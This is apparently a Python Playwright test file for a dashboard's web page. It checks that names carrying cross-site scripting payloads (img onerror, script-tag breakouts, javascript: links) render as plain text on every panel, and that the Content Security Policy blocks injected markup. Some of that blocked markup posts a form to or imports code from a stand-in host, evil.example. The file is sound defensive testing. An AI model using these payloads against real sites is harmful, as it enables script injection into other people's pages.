"""Attacks on the page in a real browser: names with markup and code on every panel, and sessions that end."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from headrace.model.errors import HeadraceError
from headrace.server import Server, Service, Tokens
from tests.dialects.storm.clusters import WordCount
from tests.scale import FULL, only_full
from tests.server.browsers import WAIT, looking
from tests.server.page.test_page import LIMITS, NOON, READ, choose, rows
from tests.server.scripted import Shop, shop

IMAGE = "<img src=x onerror=\"window.pwned='yes'\">"
TEMPLATE = "{{ 7 * 7 }} ${window.pwned='yes'}"
SCRIPT = "'\"`</style></script><script>window.pwned='yes'</script>"
LINK = "javascript:window.pwned='yes'"
OPTION = ":window.pwned='yes'"
NAMES = (IMAGE, TEMPLATE, SCRIPT, LINK, OPTION) if FULL else (IMAGE, SCRIPT, OPTION)


def spoil(status: dict[str, Any]) -> dict[str, Any]:
    """A status in which every text that comes from outside is markup or code."""
    number = iter(range(1_000))

    def name(_: object = None) -> str:
        return NAMES[next(number) % len(NAMES)]

    view, topic = next(iter(status["views"].values())), next(iter(status["topics"].values()))
    groups = {each: group for each, group in zip(NAMES, topic["groups"].values(), strict=False)}
    topic |= {"groups": groups, "error": IMAGE}
    views = {}
    for each in NAMES:
        labels = {node["id"]: f"{node['kind']} {name()}" for node in view["graph"]["nodes"]}
        views[each] = {
            **view,
            "topic": each,
            "state": each,
            "error": each,
            "stages": [{**stage, "label": f"{name()} {at}"} for at, stage in enumerate(view["stages"])],
            "graph": {
                "nodes": [{"id": labels[node["id"]], "kind": name()} for node in view["graph"]["nodes"]],
                "edges": [
                    {**edge, "from": labels[edge["from"]], "to": labels[edge["to"]], "title": each}
                    for edge in view["graph"]["edges"]
                ],
            },
            "bad": {each: {name(): 3}},
            "metrics": [{"transform": each, "name": name(), "kind": "counter", "value": 3}],
        }
    job = {"id": 1, "view": IMAGE, "incremental": False, "state": TEMPLATE, "step": SCRIPT, "error": LINK}
    jobs = [job | {"started": status["now"], "seconds": 1.0, "version": None}]
    return {**status, "views": views, "topics": dict.fromkeys(NAMES, topic), "jobs": jobs}


@pytest.fixture
def system(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Shop:
    made = shop(tmp_path, clock=lambda: NOON)
    stored = made.service.views["visitors"]
    views = {name: stored for name in NAMES}
    made = replace(made, service=replace(made.service, views=views))
    for letter, text in zip(made.letters, NAMES, strict=False):
        letter |= dict.fromkeys(("view", "position", "reason", "message", "record"), text)
    plain = Shop.status
    monkeypatch.setattr(Shop, "status", lambda self: spoil(plain(shop_of)))
    shop_of = replace(made, service=replace(made.service, views={"visitors": stored}))
    return replace(made, service=replace(made.service, operations=made))


class NamedTopologies:
    """A cluster whose topologies, components, streams, errors and dead letters have these names."""

    def published(self) -> dict[str, Any]:
        statuses = []
        for name in NAMES:
            topology = WordCount(name, split=name, count=f"count {name}")
            topology.failure = ValueError(name)
            statuses.append(json.loads(json.dumps(topology.status().record())) | {"state": name, "error": name})
        for status in statuses:
            for stream in (stream for component in status["components"] for stream in component["inputs"]):
                stream |= {"stream": status["name"], "grouping": status["name"]}
        return {"time": NOON, "topologies": statuses}

    def errors(self, name: str, limit: int) -> list[dict[str, Any]]:
        return [{"time": NOON, "component": name, "task": 0, "error": name}]

    def dead_letters(self, name: str, limit: int) -> list[dict[str, Any]]:
        rest = {"values": [name], "message_id": name, "attempts": 1, "why": name}
        return [{"time": NOON, "component": name, "task": 0, **rest}]

    def ask(self, command: str, **arguments: Any) -> Any:
        raise HeadraceError(arguments["name"])


def assert_is_text(page: Page, *texts: str) -> None:
    """The texts are on the page, and nothing in them has become an element, an attribute or code."""
    for text in texts:
        expect(page.locator("body")).to_contain_text(text)
    assert page.evaluate("window.pwned") is None
    assert page.locator('img[src="x"], [onerror], [onclick], a[href^="javascript:"]').count() == 0


def hover(page: Page) -> None:
    """Moves over each chart, so that its tooltip is drawn."""
    for chart in page.locator(".hr-chart").all():
        if chart.is_visible() and (box := chart.bounding_box()) is not None:
            page.mouse.move(box["x"] + box["width"] * 0.9, box["y"] + box["height"] / 2)
            page.mouse.move(box["x"] + box["width"] * 0.5, box["y"] + box["height"] / 2)


@only_full("test_page.py has names and keys with a script in them")
@pytest.mark.slow("all panels of a page in a browser")
def test_names_are_text_on_every_panel(browser: BrowserContext, system: Shop, port: int) -> None:
    service = replace(system.service, topologies=NamedTopologies())
    with served(browser, service, port) as page:
        expect(page.locator(".hr-graph.hr-across").nth(len(NAMES) - 1)).to_be_visible()
        hover(page)
        assert_is_text(page, *NAMES)
        page.get_by_role("tab", name="Views").click()
        for name in NAMES:
            choose(page, "View", re.escape(name))
            link = page.get_by_role("link", name="as JSON")
            expect(link).to_have_attribute("href", re.compile(f"^/views/{re.escape(quote(name, safe=''))}\\?"))
            assert len(rows(page, "rows")) == 20
            assert_is_text(page)
        hover(page)
        page.get_by_label("anything").fill(IMAGE)
        page.get_by_label("From", exact=True).fill(IMAGE)
        assert_is_text(page, f"got {IMAGE!r}")
        for tab, texts in (("Topics", NAMES), ("Batch", NAMES), ("Dead letters", NAMES[:3])):
            page.get_by_role("tab", name=tab).click()
            assert_is_text(page, *texts)
        page.get_by_role("tab", name="Batch").click()
        page.get_by_role("button", name="Roll back").first.click()
        expect(page.get_by_role("dialog")).to_contain_text("Roll back to version 1?")
        page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
        page.get_by_role("button", name="Compute", exact=True).first.click()
        assert_is_text(page, "has started")
        page.get_by_role("tab", name="Topologies").click()
        for name in NAMES:
            page.get_by_role("button", name=name, exact=True).click()
            expect(page.locator("section[data-topology] .hr-title").first).to_have_text(name)
            expect(page.locator("section[data-topology] .hr-error")).to_have_text(name)
            expect(page.locator('[data-name="errors"] tbody tr').first).to_contain_text(name)
            assert rows(page, "dead letters")[0][3:] == [name, name, "1", name.replace("_", " ")]
            hover(page)
            assert_is_text(page, *NAMES, f"count {name}")
        page.get_by_role("button", name="Kill").click()
        expect(page.get_by_role("dialog")).to_contain_text(f"Kill {OPTION}?")
        page.get_by_role("dialog").get_by_role("button", name="Kill").click()
        expect(page.locator(".q-notification").filter(has_text=OPTION).first).to_be_visible()
        page.get_by_role("button", name=IMAGE, exact=True).click()
        expect(page.locator("section[data-topology] .hr-title").first).to_have_text(IMAGE)
        page.get_by_role("button", name="Kill").click()
        page.get_by_role("dialog").get_by_role("button", name="Kill").click()
        expect(page.locator(".q-notification").filter(has_text=IMAGE).first).to_be_visible()
        assert_is_text(page)


@contextmanager
def served(browser: BrowserContext, service: Service, port: int) -> Iterator[Page]:
    with Server(service, port=port, limits=LIMITS, page=True) as server, looking(browser, server.url) as page:
        yield page


ATTACKS = (
    f"document.body.insertAdjacentHTML('beforeend', {IMAGE!r})",
    "document.body.append(Object.assign(document.createElement('script'), {text: \"window.pwned = 'yes'\"}))",
    "document.body.insertAdjacentHTML('beforeend', '<a id=bad href=\"javascript:window.pwned=1\">x</a>'); bad.click()",
    "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>top.pwned=1</script>\"></iframe>')",
    "document.head.insertAdjacentHTML('beforeend', '<style>body { --pwned: yes }</style>')",
    "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example\"></form>');"
    " document.forms[document.forms.length - 1].submit()",
    "import('https://evil.example/x.js').catch(() => {})",
)


def test_markup_that_got_into_the_page_runs_nothing(browser: BrowserContext, port: int) -> None:
    with Server(Service({}, {}), port=port, limits=LIMITS, page=True) as server:
        page = browser.new_page()
        refused: list[str] = []
        page.on("console", lambda message: refused.append(message.text))
        page.on("pageerror", lambda error: refused.append(str(error)))
        page.goto(server.url)
        expect(page.get_by_text("There are no views; declare one").first).to_be_visible()
        assert refused == []
        for attack in ATTACKS:
            refused.clear()
            page.evaluate(f"() => {{ {attack} }}")
            tries = iter(range(WAIT // 100))  # a busy browser says late what it has refused
            while not any("Content Security Policy" in text for text in refused):
                assert next(tries, None) is not None, (attack, refused)
                page.wait_for_timeout(100)
            assert page.evaluate("window.pwned") is None, attack
            assert page.evaluate("getComputedStyle(document.body).getPropertyValue('--pwned')") == "", attack
        page.close()


@only_full("test_page.py signs in")
def test_pages_go_to_the_sign_in_page_when_their_session_ends(
    browser: BrowserContext, tmp_path: Path, port: int
) -> None:
    tokens = Tokens.parse(f"read:{READ}")
    service = shop(tmp_path, clock=lambda: NOON).service
    with Server(service, port=port, limits=LIMITS, tokens=tokens, page=True) as server:
        browser.clear_cookies()
        first, second, away = (browser.new_page() for _ in range(3))
        first.goto(server.url)
        first.get_by_label("Token").fill(READ)
        with first.expect_navigation():
            first.get_by_role("button", name="Sign in").click()
        for page in (second, away):
            page.goto(server.url)
        for page in (first, second, away):
            expect(page.locator(".hr-state")).to_have_text("running")
        browser.set_offline(True)
        away.evaluate("window.socket.io.engine.close()")  # as a machine that sleeps; it tries again and again
        expect(away.locator("#popup")).to_have_attribute("aria-hidden", "false")
        browser.set_offline(False)
        with first.expect_navigation():
            first.get_by_role("button", name="Sign out").click()
        for page in (first, second, away):
            page.wait_for_url("**/login")
            page.close()
